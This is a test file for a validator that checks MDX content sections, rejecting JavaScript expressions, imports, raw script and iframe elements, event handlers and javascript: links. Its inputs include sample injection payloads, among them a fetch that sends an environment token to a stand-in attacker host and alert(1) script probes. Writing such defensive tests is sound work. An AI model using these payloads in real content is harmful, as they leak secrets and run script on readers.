import remarkMdx from 'remark-mdx';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, test } from 'vitest';
import { sectionBodyProblem, sectionMarkupProblems } from '../../src/lib/content/check-section-markup.ts';

const parse = (mdx: string) => unified().use(remarkParse).use(remarkMdx).parse(mdx);
const problems = (mdx: string) => sectionMarkupProblems(parse(mdx)).map(({ line, message }) => `${line}: ${message}`);

const allowed =
  'Sections hold Markdown, the components Stat, KeyFigures, Chart, Term, and the text elements abbr, b, bdi, br, cite, dfn, em, i, q, small, span, strong, sub, sup, wbr.';

describe('sectionMarkupProblems', () => {
  test('Markdown, the provided components, text elements and comments pass', () => {
    const mdx = [
      '## A heading',
      '',
      'Text with <Stat id="a.one"/>, **bold**, a [link](/en/data/) and <span lang="zh-CN" translate="no">快递</span>.',
      '',
      '<KeyFigures ids={["a.one", "a.two"]} />',
      '',
      '{/* a note for editors */}',
      '',
      '<Chart id="a-chart" />',
    ].join('\n');
    expect(problems(mdx)).toEqual([]);
  });

  test('lists and quotes nested more than 8 levels deep are named once, at the level that passes the limit', () => {
    const nested = (depth: number) => Array.from({ length: depth }, (_, level) => `${'  '.repeat(level)}- item`).join('\n');
    expect(problems(`Text.\n\n${nested(8)}`)).toEqual([]);
    expect(problems(`Text.\n\n${nested(40)}`)).toEqual([
      '11: lists and quotes are nested more than 8 levels deep here; the limit is 8. Flatten them: deeper nesting is not readable, and the build cannot compile it.',
    ]);
    expect(problems(`Text.\n\n${'> '.repeat(9)}quoted`)).toHaveLength(1);
  });

  test('a JavaScript expression in text', () => {
    expect(problems('Line one.\n\nThe key is {process.env.SECRET}.')).toEqual([
      '3: {process.env.SECRET} is a JavaScript expression, which sections may not hold: it would run when the site is built and publish its result. Write the text itself; a number is a <Stat id="..."/>.',
    ]);
  });

  test('a JavaScript expression on a line of its own', () => {
    expect(problems('{globalThis.fetch("https://evil.example/" + process.env.TOKEN)}')).toEqual([
      '1: {globalThis.fetch("https://evil.example/…} is a JavaScript expression, which sections may not hold: it would run when the site is built and publish its result. Write the text itself; a number is a <Stat id="..."/>.',
    ]);
  });

  test.each([
    ['an import', "import fs from 'node:fs';"],
    ['an export', 'export const secret = process.env.SECRET;'],
  ])('%s', (_name, line) => {
    expect(problems(`Text.\n\n${line}`)).toEqual([
      `3: import and export are code, which sections may not hold; the components are provided without an import. ${allowed}`,
    ]);
  });

  test.each([
    ['<script>', '<script>alert(1)</script>'],
    ['<iframe>', '<iframe src="https://evil.example/"></iframe>'],
    ['<style>', '<style>{"body { display: none }"}</style>'],
    ['<object>', '<object data="x.swf"></object>'],
    ['<img>', '<img src="https://tracker.example/pixel.png" />'],
    ['<Unknown>', '<Unknown />'],
  ])('the raw element %s', (name, line) => {
    expect(problems(`Text.\n\n${line}`)[0]).toBe(`3: ${name} is not allowed in a section. ${allowed}`);
  });

  test('an event-handler attribute, on a text element and on a component', () => {
    expect(problems('Text <span onclick="alert(1)">here</span> and <Stat id="a.one" onMouseOver="x()"/>.')).toEqual([
      '1: the attribute onclick on <span> is an event handler, which runs script: sections may not hold one.',
      '1: the attribute onMouseOver on <Stat> is an event handler, which runs script: sections may not hold one.',
    ]);
  });

  test('an attribute that a text element may not have', () => {
    expect(problems('Text <span style="color: red">here</span>.')).toEqual([
      '1: <span> may not have the attribute style; text elements may have dir, lang, title, translate.',
    ]);
  });

  test('an attribute value that is code, and a spread', () => {
    expect(problems('<Stat id={process.env.X}/> and <Chart {...props} />')).toEqual([
      '1: the value of id on <Stat> is the JavaScript expression {process.env.X}: write text in quotes (name="value"), or a list of quoted ids.',
      '1: <Chart> has a spread attribute {...props}, which is code: write each attribute as name="value".',
    ]);
  });

  test('a javascript: link', () => {
    expect(problems('Read [this](javascript:alert(1)).')).toEqual([
      '1: the link to "javascript:alert(1)" runs script: link to a page or a file.',
    ]);
  });
});

describe('sectionBodyProblem', () => {
  test('a section with a paragraph passes', () => {
    expect(sectionBodyProblem(parse('## Heading\n\nA paragraph with <Stat id="a.one"/>.'))).toBeUndefined();
  });

  test('an empty body', () => {
    expect(sectionBodyProblem(parse('\n\n'))).toBe('the section has no text. Write its paragraphs below the front matter.');
  });

  test('a body without a paragraph of text', () => {
    expect(sectionBodyProblem(parse('## Heading\n\n<KeyFigures ids={["a.one"]} />\n\n<Chart id="a-chart" />'))).toBe(
      'the section has no paragraph of text, only headings, lists, components or code. Write at least one paragraph.',
    );
  });
});
